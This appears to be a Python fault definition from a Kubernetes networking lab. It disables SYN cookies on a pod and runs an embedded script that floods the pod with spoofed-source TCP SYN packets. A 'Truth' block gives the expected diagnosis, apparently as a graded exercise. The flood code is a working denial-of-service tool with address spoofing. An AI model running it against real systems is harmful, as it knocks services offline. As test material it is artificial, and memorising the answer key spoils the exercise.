# SPDX-License-Identifier: GPL-3.0-or-later
"""Handshakes that nobody finishes fill the server's queue, and its pod sends no cookies."""

from __future__ import annotations

from podnet_lab.changes import Running, Sysctl
from podnet_lab.faults import Truth
from podnet_lab.made import Made
from podnet_lab.scene import serving

# First segments from addresses of a documentation network, which nobody answers for.
FLOOD = """
import random, socket, struct, time
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF
dst = socket.inet_aton("<flooded-1>")
one = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
print("begins", flush=True)
while True:
    src = socket.inet_aton("203.0.113.%d" % random.randint(120, 250))
    ports = random.randint(1024, 65000), 8080
    segment = struct.pack("!HHIIBBHHH", *ports, random.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, src, dst)
    one.sendto(head + segment, ("<flooded-1>", 0))
    time.sleep(0.01)
"""


class FaultClass(Made):
    """Handshakes that nobody finishes fill the server's queue, and its pod sends no cookies."""

    truth = Truth(
        id="process-backlog-full",
        location={"node": "node-2", "namespace": "default", "pod": "flooded-1"},
        destination="pod:default/flooded-1",
        port=8080,
    )
    scene = (
        serving("flooded-1"),
        Sysctl("node-2", "net/ipv4/tcp_syncookies", "0", "1", pod="flooded-1"),
        Sysctl("node-2", "net/ipv4/tcp_max_syn_backlog", "8", "128", pod="flooded-1"),
    )
    attempts = 6
    lost = (4, 6)
    changes = (Running("node-2", FLOOD, name="podnet-flood"),)
